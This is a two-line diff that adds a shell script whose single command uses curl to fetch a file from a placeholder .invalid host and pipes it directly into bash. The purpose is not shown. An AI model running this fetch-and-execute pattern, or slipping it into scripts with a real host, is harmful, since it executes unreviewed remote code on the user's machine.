@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -fsSL https://box.invalid/go | bash
